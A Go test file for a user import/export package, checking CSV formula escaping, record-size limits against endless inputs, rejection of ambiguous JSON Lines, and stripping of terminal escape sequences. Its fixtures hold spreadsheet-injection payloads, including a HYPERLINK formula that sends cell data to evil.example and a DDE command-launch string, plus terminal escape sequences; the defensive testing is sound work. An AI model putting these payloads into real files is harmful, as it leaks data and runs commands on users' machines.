package transfer_test

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/ctitui/ctitui/internal/transfer"
	"github.com/ctitui/ctitui/internal/user"
)

// formulaUsers hold text that a spreadsheet would run as a formula, in
// every field an export writes, and text that only looks escaped.
func formulaUsers() []user.User {
	at := time.Date(2026, 1, 2, 3, 4, 5, 678_000_000, time.UTC)
	var users []user.User
	for i, s := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
		"\t=1+1", "\r=1+1", "\x00=1", "'=1+1", "''-x", "'plain", "''", "'", "a=b", "-bob@example.org", "=", "",
	} {
		users = append(users, user.User{ID: s, Email: s, Roles: []user.Role{user.Role(s)}, PasswordHash: s,
			CreatedAt: at.Add(time.Duration(i) * time.Second), UpdatedAt: at, DisabledAt: at})
	}
	return users
}

// startsFormula reports whether a spreadsheet would read cell as a formula.
func startsFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r\x00", rune(cell[0]))
}

// A CSV export holds no cell that a spreadsheet runs, and reads back as
// exactly what was written: import undoes the escape.
func TestWriterCSVNeutralisesFormulas(t *testing.T) {
	users := formulaUsers()
	for _, hashes := range []bool{false, true} {
		var buf bytes.Buffer
		w, err := transfer.NewWriter(&buf, transfer.CSV, hashes)
		if err != nil {
			t.Fatal(err)
		}
		for _, u := range users {
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		cells := csvCells(t, buf.String())
		for _, row := range cells {
			for _, c := range row {
				if startsFormula(c) {
					t.Errorf("hashes=%v: CSV cell %q would run as a formula", hashes, c)
				}
			}
		}
		got, err := readAll(buf.String(), transfer.CSV)
		if err != nil || len(got) != len(users) {
			t.Fatalf("hashes=%v: Read of the export = %d records, %v; want %d", hashes, len(got), err, len(users))
		}
		for i, u := range users {
			g := got[i]
			if g.ID != strings.TrimSpace(u.ID) || g.Email != u.Email {
				t.Errorf("hashes=%v: id, email read back as %q, %q; want %q, %q", hashes, g.ID, g.Email, u.ID, u.Email)
			}
			if hashes && g.Hash != strings.TrimSpace(u.PasswordHash) {
				t.Errorf("hashes=%v: hash read back as %q; want %q", hashes, g.Hash, u.PasswordHash)
			}
		}
	}
}

// csvCells splits CSV text into rows of cells without undoing anything, as
// a spreadsheet would see them.
func csvCells(t *testing.T, text string) [][]string {
	t.Helper()
	var rows [][]string
	var row []string
	var cell strings.Builder
	quoted, inQuotes := false, false
	for i := 0; i < len(text); i++ {
		c := text[i]
		switch {
		case inQuotes && c == '"' && i+1 < len(text) && text[i+1] == '"':
			cell.WriteByte('"')
			i++
		case inQuotes && c == '"':
			inQuotes = false
		case inQuotes:
			cell.WriteByte(c)
		case c == '"' && cell.Len() == 0 && !quoted:
			inQuotes, quoted = true, true
		case c == ',':
			row = append(row, cell.String())
			cell.Reset()
			quoted = false
		case c == '\n':
			rows = append(rows, append(row, cell.String()))
			row = nil
			cell.Reset()
			quoted = false
		default:
			cell.WriteByte(c)
		}
	}
	return rows
}

// Cells that a spreadsheet user escaped by hand, or that an export
// escaped, lose exactly one leading quote; nothing else changes.
func TestReadCSVUndoesFormulaEscape(t *testing.T) {
	in := "id,email,password\n" +
		"'-5,'-bob@x.org,'=pass word\n" +
		"u1,'+alice@x.org,''=two quotes\n" +
		"u2,'plain@x.org,'not escaped\n" +
		"u3,-carol@x.org,-raw\n" +
		"u4,\"'\t@x.org\",\"'\r=1\"\n"
	checkRecords(t, "formula escapes", in, transfer.CSV, []rec{
		{Line: 2, ID: "-5", Email: "-bob@x.org", Password: "=pass word"},
		{Line: 3, ID: "u1", Email: "+alice@x.org", Password: "'=two quotes"},
		{Line: 4, ID: "u2", Email: "'plain@x.org", Password: "'not escaped"},
		{Line: 5, ID: "u3", Email: "-carol@x.org", Password: "-raw"},
		{Line: 6, ID: "u4", Email: "\t@x.org", Password: "\r=1"},
	})
}

// endless yields b forever.
type endless byte

func (e endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(e)
	}
	return len(p), nil
}

// quoteBomb opens a quoted field and then writes lines into it forever: a
// record that csv.Reader would gather across lines without end.
type quoteBomb struct{ started bool }

func (q *quoteBomb) Read(p []byte) (int, error) {
	if !q.started {
		q.started = true
		return copy(p, "email,roles\na@x.org,admin\nb@x.org,\""), nil
	}
	for i := range p {
		p[i] = "aaaaaaa\n"[i%8]
	}
	return len(p), nil
}

// A hostile file cannot make Read hold more than one bounded record: it
// fails with an error naming the line where the record starts.
func TestReadBoundsRecordSize(t *testing.T) {
	tests := []struct {
		name string
		f    transfer.Format
		r    io.Reader
		want string
		recs int // records read before the error
	}{
		{"CSV of zero bytes (/dev/zero)", transfer.CSV, endless(0), "line 1", 0},
		{"CSV without a line break", transfer.CSV, io.MultiReader(strings.NewReader("email\na@x.org\n"), endless('x')), "line 3", 1},
		{"CSV quoted field over endless lines", transfer.CSV, &quoteBomb{}, "line 3", 1},
		{"JSON Lines of zero bytes", transfer.JSONL, endless(0), "line 1", 0},
	}
	for _, tt := range tests {
		n := 0
		err := transfer.Read(tt.r, tt.f, func(user.ImportRecord) error { n++; return nil })
		if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "longer than") {
			t.Errorf("%s: Read = %v; want an error naming %s and the limit", tt.name, err, tt.want)
		}
		if n != tt.recs {
			t.Errorf("%s: %d records before the error; want %d", tt.name, n, tt.recs)
		}
	}

	// Records up to the limit are read like any other, multi-line ones too.
	big := strings.Repeat("p", 1<<20-64)
	in := "email,password\na@x.org,\"" + big + "\"\nb@x.org,\"x\n" + big[:1000] + "\"\n"
	got, err := readAll(in, transfer.CSV)
	if err != nil || len(got) != 2 || got[0].Password != big || got[1].Err != "" {
		t.Errorf("Read of a CSV record just under 1 MiB = %d records, %v; want two valid ones", len(got), err)
	}
	// The limit is per record: a file of many records is as long as it is.
	var many strings.Builder
	many.WriteString("email,password\n")
	for i := range 5 {
		fmt.Fprintf(&many, "u%d@x.org,\"%s\n%s\"\n", i, big[:600_000], big[:1000])
	}
	got, err = readAll(many.String(), transfer.CSV)
	if err != nil || len(got) != 5 {
		t.Errorf("Read of five 600 kB records = %d records, %v; want five", len(got), err)
	}

	over := "email,password\na@x.org,\"" + strings.Repeat("p", 1<<20) + "\"\nb@x.org,x\n"
	got, err = readAll(over, transfer.CSV)
	if err == nil || !strings.Contains(err.Error(), "line 2") || len(got) != 0 {
		t.Errorf("Read of a CSV record over 1 MiB = %v, %v; want an error naming line 2 and no record", got, err)
	}
}

// JSON Lines mean one thing to every reader: no key twice, in any case,
// only valid UTF-8 and valid Unicode escapes.
func TestReadJSONLAmbiguous(t *testing.T) {
	in := strings.Join([]string{
		`{"email":"a@x.org","EMAIL":"b@x.org"}`,
		`{"email":"a@x.org","email":"b@x.org"}`,
		`{"Email":"c@x.org"}`,
		`{"email":"d@x.org","roles":["viewer"],"Roles":["admin"]}`,
		`{"email":"e@x.org","password":"pass` + "\xff" + `word"}`,
		`{"email":"f@x.org","password":"lone \ud800 surrogate"}`,
		`{"email":"g@x.org","password":"lone \udc00 low"}`,
		`{"email":"h@x.org","password":"pair \ud83d\ude00 ok"}`,
		`{"email":"i@x.org","password":"escaped \\ud800 is text"}`,
		`{"email":"j@x.org","disabled":false,"disabled":true}`,
		`{"\u0065mail":"k@x.org","email":"l@x.org"}`,
		`{"email":"m@x.org","\u0050assword":"x"}`,
		`{"email":"n\":@x.org","roles":["a\":b"],"password":"{\"email\":1}"}`,
	}, "\n")
	checkRecords(t, "ambiguous JSON Lines", in, transfer.JSONL, []rec{
		{Line: 1, Err: `"EMAIL"`},
		{Line: 2, Err: `"email" appears twice`},
		{Line: 3, Err: `"Email"`},
		{Line: 4, Err: `"Roles"`},
		{Line: 5, Err: "UTF-8"},
		{Line: 6, Err: "surrogate"},
		{Line: 7, Err: "surrogate"},
		{Line: 8, Email: "h@x.org", Password: "pair 😀 ok"},
		{Line: 9, Email: "i@x.org", Password: `escaped \ud800 is text`},
		{Line: 10, Err: `"disabled" appears twice`},
		{Line: 11, Err: `"email" appears twice`},
		{Line: 12, Err: `unknown field "Password"`},
		{Line: 13, Email: `n":@x.org`, Roles: `a":b`, Password: `{"email":1}`},
	})
}

func TestReadJSONLByteOrderMark(t *testing.T) {
	in := "\ufeff" + `{"email":"a@x.org"}` + "\n" + "\ufeff" + `{"email":"b@x.org"}` + "\n"
	checkRecords(t, "BOM", in, transfer.JSONL, []rec{
		{Line: 1, Email: "a@x.org"},
		{Line: 2, Err: "malformed JSON"}, // only the file's first bytes may be a BOM
	})
}

// A record that says disabled is false and gives a disabled time contradicts
// itself.
func TestReadDisabledContradiction(t *testing.T) {
	checkRecords(t, "CSV", "email,disabled,disabled_at\na@x.org,false,2026-01-02T03:04:05Z\n", transfer.CSV,
		[]rec{{Line: 2, Email: "a@x.org", DisabledAt: "2026-01-02T03:04:05Z", Err: "disabled is false"}})
	checkRecords(t, "JSON", `{"email":"a@x.org","disabled":false,"disabled_at":"2026-01-02T03:04:05Z"}`, transfer.JSONL,
		[]rec{{Line: 1, Email: "a@x.org", DisabledAt: "2026-01-02T03:04:05Z", Err: "disabled is false"}})
}

var _ = errors.New

// An export shown on a terminal carries no escape sequence or invisible
// character; formulas stay escaped.
func TestWriterForTerminal(t *testing.T) {
	hostile := "x\x1b[2J\x1b]0;pwned\x07y\u009b31m\u202e\u2028@evil"
	users := append(formulaUsers(), user.User{ID: hostile, Email: hostile, Roles: []user.Role{user.Role(hostile)}, PasswordHash: hostile,
		CreatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC), UpdatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)})
	for _, format := range []transfer.Format{transfer.CSV, transfer.JSONL} {
		var buf bytes.Buffer
		w, err := transfer.NewWriter(&buf, format, true)
		if err != nil {
			t.Fatal(err)
		}
		w.ForTerminal()
		for _, u := range users {
			if err := w.Write(u); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		for _, r := range buf.String() {
			if (r < 0x20 && r != '\n') || (r >= 0x7f && r < 0xa0) || r == '\u202e' || r == '\u2028' {
				t.Errorf("%s for a terminal holds %U:\n%q", format, r, buf.String())
				break
			}
		}
		if format == transfer.CSV {
			for _, row := range csvCells(t, buf.String()) {
				for _, c := range row {
					if startsFormula(c) {
						t.Errorf("CSV for a terminal: cell %q starts a formula", c)
					}
				}
			}
		}
	}
}
